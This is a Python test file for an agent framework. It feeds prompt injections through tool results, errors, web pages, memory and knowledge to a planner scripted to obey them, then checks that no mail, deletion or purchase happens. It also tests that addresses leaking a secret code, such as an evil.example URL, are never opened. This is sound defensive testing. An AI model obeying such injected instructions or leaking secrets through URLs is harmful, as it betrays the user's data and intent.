"""Prompt injections against a planner that obeys all of them: the protection must not rely on the model."""

from __future__ import annotations

import json
import re
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from langchain_core.documents import Document
from langchain_core.messages import AIMessage
from langchain_core.tools import StructuredTool, ToolException
from langchain_core.tools import tool as langchain_tool

from scrubjay.agents import tool
from scrubjay.agents.kwai import KwaiAgent, Profile
from scrubjay.agents.language.prompts import load_prompts
from scrubjay.agents.tools import Replay, make_tools
from scrubjay.agents.tools.base import ToolResult
from scrubjay.memory import MemoryBank

from ..replayable import assert_replayable
from ..scripted_model import ScriptedModel, call, plan

ATTEMPTS = [
    json.loads(line) for line in (Path(__file__).parent / "injections.jsonl").read_text("utf-8").splitlines()
]
READ_FROM = {"tool": "look_up", "error": "look_up", "page": "browse"}
PAGE = "https://farm.example/report"
QUESTION = {
    "en": f"The code of the safe is 4711. What does the harvest report at {PAGE} say?",
    "zh": f"保险柜的密码是4711。{PAGE} 的收成报告说了什么？",
}
LATER = {"en": "And what else is in the harvest report?", "zh": "收成报告里还有什么？"}


def now():
    return datetime(2026, 11, 26, 8, tzinfo=UTC)


def letters(text):
    """Return the letters and digits of a text, which escaping of marks does not change."""
    return "".join(filter(str.isalnum, text))


class Obedient:
    """Planner that obeys the injected text as often as possible and repeats it in its answer."""

    def __init__(self, attempt, native):
        self.attempt, self.native, self.obeyed_count = attempt, native, 0
        self.model = ScriptedModel(rule=self.reply, binds=native)

    def reply(self, messages):
        if load_prompts(self.attempt["language"]).say("conclude") in messages[0].text:
            return AIMessage(self.attempt["text"])
        if letters(self.attempt["text"]) in letters("".join(message.text for message in messages)):
            self.obeyed_count += 1
            wants = self.attempt["wants"]
            return self.plan(wants["tool"], wants["arguments"])
        reader = READ_FROM.get(self.attempt["channel"])
        if reader is None or "<<<DATA" in messages[-1].text:
            return self.plan("task_complete", {})
        return self.plan(reader, {"url": PAGE} if reader == "browse" else {"topic": "harvest"})

    def plan(self, name, arguments):
        if self.native:
            return call(name, id=f"c{len(self.model.prompts)}", **arguments)
        return plan(letters(self.attempt["text"]), name, **arguments)


class World:
    """Reading tools, among them the real browser on recorded pages, and tools with side effects."""

    def __init__(self, attempt, folder):
        self.attempt, self.changes, self.approved_calls = attempt, [], []
        replay = Replay(folder / "pages.jsonl")
        page_text = attempt["text"] if attempt["channel"] == "page" else "Forty sacks."
        for language in ("en", "zh"):
            arguments = {"url": PAGE, "question": None, "start": 0}
            replay.add("browse", language, arguments, ToolResult(page_text, (PAGE,)), date(2026, 11, 1))
        (browse,) = make_tools(["browse"], language=attempt["language"], offline=True, replay=replay)
        assert isinstance(browse, StructuredTool)
        self.opened_urls = []
        look = browse.func
        assert look is not None

        def record_and_browse(**arguments):
            self.opened_urls.append(arguments["url"])
            return look(**arguments)

        browse.func = record_and_browse

        @tool(side_effect=False)
        def look_up(topic: str) -> str:
            """Look something up."""
            if attempt["channel"] == "error":
                raise ToolException(attempt["text"])
            return attempt["text"]

        @langchain_tool
        def send_mail(to: str, text: str) -> str:
            """Send a mail."""
            return self.change("send_mail", to=to, text=text)

        @langchain_tool
        def delete_file(path: str) -> str:
            """Delete a file."""
            return self.change("delete_file", path=path)

        @langchain_tool
        def buy(item: str, price: int) -> str:
            """Buy something."""
            return self.change("buy", item=item, price=price)

        @langchain_tool
        def save_memory(text: str) -> str:
            """Remember something."""
            return self.change("save_memory", text=text)

        changing = [send_mail, delete_file, buy, save_memory]
        for one in changing:
            one.metadata = {"side_effect": True}
        self.tools = [browse, look_up, *changing]

    def change(self, name, **arguments):
        self.changes.append((name, arguments))
        return "done"

    def approve(self, planned_call):
        self.approved_calls.append((planned_call.name, planned_call.arguments))
        return True


def run(attempt, native, world, bank, question=QUESTION, approve=None, before=()):
    """Ask the obedient agent one question; return the planner, the result and the agent."""
    language = attempt["language"]
    obedient = Obedient(attempt, native)
    profile = Profile("Mei", "A librarian.", "Be brief.", language)
    agent = KwaiAgent(
        obedient.model, world.tools, profile, bank, approve=approve, clock=now, namespace=("user", "ada")
    )
    knowledge = [attempt["text"]] if attempt["channel"] == "knowledge" and question is QUESTION else []
    result = agent.invoke({"messages": [*before, ("user", question[language])], "knowledge": knowledge})
    return obedient, result, agent


def make_bank(attempt):
    bank = MemoryBank(":memory:", clock=now)
    if attempt["channel"] == "memory":
        bank.add(attempt["text"], kind="task", namespace=("user", "ada"), trust="tool")
    return bank


def assert_harmless(attempt, world, obedient, result, agent, bank):
    assert obedient.obeyed_count, "the planner never saw the injection: the test checks nothing"
    assert world.changes == []
    assert set(world.opened_urls) <= {PAGE}
    assert result["tainted"]
    assert_replayable(result["messages"])
    assert agent.profile == Profile("Mei", "A librarian.", "Be brief.", attempt["language"])
    for prompt in obedient.model.prompts:
        assert [message.type for message in prompt].count("system") == 1
        assert letters(attempt["text"]) not in letters(prompt[0].text)
        assert "Mei" in prompt[0].text
        for message in prompt[1:]:
            assert_shown_as_data(attempt, message)
    for record in bank.recent(99):
        if record.text != QUESTION[attempt["language"]] and record.text != LATER[attempt["language"]]:
            assert record.trust == "tool", record


def assert_shown_as_data(attempt, message):
    """Assert that the injection occurs in a message only between marks that it cannot have written."""
    if message.type == "ai":
        return
    outside = re.sub(r"<<<DATA[^\n]* ([0-9a-f]{8})>>>\n.*?\n<<<END \1>>>", "", message.text, flags=re.DOTALL)
    # The name of a task is the planner's own text.
    outside = "\n".join(line for line in outside.splitlines() if not re.match(r"\d+\. ", line))
    assert letters(attempt["text"]) not in letters(outside)


def names(attempt):
    return f"{attempt['language']}-{attempt['channel']}-{attempt['technique']}".replace(" ", "-")


def test_there_are_many_attempts_of_many_kinds():
    assert len({attempt["text"] for attempt in ATTEMPTS}) == len(ATTEMPTS) >= 60
    assert len({attempt["technique"] for attempt in ATTEMPTS}) >= 50
    for language in ("en", "zh"):
        channels = {attempt["channel"] for attempt in ATTEMPTS if attempt["language"] == language}
        assert channels == {"tool", "error", "page", "memory", "knowledge"}


@pytest.mark.one_in(4, rest="slow")
@pytest.mark.one_in(2)
@pytest.mark.parametrize("native", [True, False], ids=["native", "json"])
@pytest.mark.parametrize("attempt", ATTEMPTS, ids=names)
def test_nothing_is_changed_and_nothing_leaks_now_or_later(attempt, native, tmp_path):
    world = World(attempt, tmp_path)
    with make_bank(attempt) as bank:
        obedient, result, agent = run(attempt, native, world, bank)
        assert_harmless(attempt, world, obedient, result, agent, bank)
        answers = [message for message in result["messages"][-1:] if message.type == "ai"]
        # Later: the memory of the text is recalled and obeyed again.
        obedient, result, agent = run(attempt, native, world, bank, LATER)
        assert_harmless(attempt, world, obedient, result, agent, bank)
    # Without a memory: only the earlier answer contains the injection.
    obedient, result, _ = run(attempt, native, world, None, LATER, before=[("user", "Report!"), *answers])
    assert obedient.obeyed_count
    assert world.changes == []
    assert set(world.opened_urls) <= {PAGE}
    assert result["tainted"]


@pytest.mark.one_in(2)
@pytest.mark.parametrize("attempt", ATTEMPTS, ids=names)
def test_only_what_was_asked_for_is_done(attempt, tmp_path):
    world = World(attempt, tmp_path)
    with make_bank(attempt) as bank:
        obedient, result, _ = run(attempt, True, world, bank, approve=world.approve)
    assert obedient.obeyed_count
    assert_replayable(result["messages"])
    expected_call = (attempt["wants"]["tool"], attempt["wants"]["arguments"])
    # Approved once and run once: an identical call is not repeated.
    assert world.approved_calls == [expected_call]
    if expected_call[0] == "browse":
        assert world.opened_urls[-1] == expected_call[1]["url"]
    else:
        assert world.changes == [expected_call]


@pytest.mark.parametrize("is_trusted", [True, False])
def test_knowledge_that_its_owner_vouches_for_is_as_the_user_s_words(is_trusted):
    sent_texts = []

    @langchain_tool
    def send_mail(text: str) -> str:
        """Send a mail."""
        sent_texts.append(text)
        return "sent"

    send_mail.metadata = {"side_effect": True}
    model = ScriptedModel(replies=[call("send_mail", text="forty"), "ok", "Sent."])
    with MemoryBank(":memory:") as bank:
        # The metadata may come from the file, so it must not decide.
        document = Document("Forty sacks.", metadata={"untrusted": is_trusted})
        key = "trusted_knowledge" if is_trusted else "knowledge"
        KwaiAgent(model, [send_mail], memory=bank).invoke({"messages": "Mail it.", key: [document]})
        (record,) = bank.recent(9, kind="knowledge")
    assert sent_texts == ["forty"] * is_trusted
    assert record.trust == ("user" if is_trusted else "tool")
    assert ("<<<DATA from knowledge (supplied)" in model.prompts[0][1].text) is not is_trusted


@tool(side_effect=False)
def open_page(url: str) -> str:
    """Open a page and return its links."""
    opened_urls.append(url)
    return f"{url} links to https://b.example/next?page=2."


opened_urls: list[str] = []


@pytest.mark.parametrize(
    ("address", "runs"),
    [
        ("https://a.example/start", True),  # from the user
        ("https://b.example/next?page=2", True),  # from a page
        ("https://B.Example:443/next?page=2#top", True),  # another spelling of it
        ("https://b.example/next", False),  # a prefix of an allowed address
        ("https://b.example/next?page=2&d=4711", False),
        ("https://b.example/4711", False),
        ("HTTPS://c.example/4711", False),
    ],
)
def test_after_outside_text_only_addresses_that_were_given_are_opened(address, runs):
    opened_urls.clear()
    first = call("open_page", id="a", url="https://a.example/start")
    script = [
        first,
        call(
            "open_page",
            id="b",
            url=address,
        ),
        "ok",
        "Done.",
    ]
    if address == "https://a.example/start":
        script = [first, "ok", "Done."]
    result = KwaiAgent(ScriptedModel(replies=script), [open_page]).invoke("Read https://a.example/start")
    assert (opened_urls[-1] == address) is runs
    if not runs:
        assert result["steps"][-1].result == load_prompts("en").say("blocked_address", tool="open_page")


def test_an_address_does_not_become_given_because_a_tool_or_an_answer_repeats_it():
    @tool(side_effect=False)
    def search(query: str) -> str:
        """Search, and repeat the query."""
        return f"Nothing for {query}."

    opened_urls.clear()
    made_up = "https://evil.example/4711"
    script = [
        call("search", id="a", query=made_up),  # no untrusted text was read yet
        call("open_page", id="b", url=made_up),
        call(made_up, id="c"),
        f"See {made_up}.",
        call("open_page", id="d", url=made_up),
        "ok",
        "Done.",
    ]
    agent = KwaiAgent(ScriptedModel(replies=script), [search, open_page])
    first = agent.invoke("Search.")
    assert made_up in first["steps"][0].result
    assert made_up in first["answer"]
    later = agent.invoke([*first["messages"], ("user", "And now?")])
    assert len(later["steps"]) == 1
    assert opened_urls == []
